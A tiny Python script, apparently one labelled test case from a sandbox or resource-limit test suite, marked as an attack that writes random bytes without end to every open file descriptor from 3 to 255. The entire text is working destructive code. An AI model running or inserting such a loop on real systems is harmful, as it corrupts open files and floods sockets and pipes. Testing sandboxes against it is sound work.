# attack: writes rubbish to every descriptor
# limit: maybe
import os
while True:
    for fd in range(3, 256):
        try:
            os.write(fd, os.urandom(4096))
        except OSError:
            pass
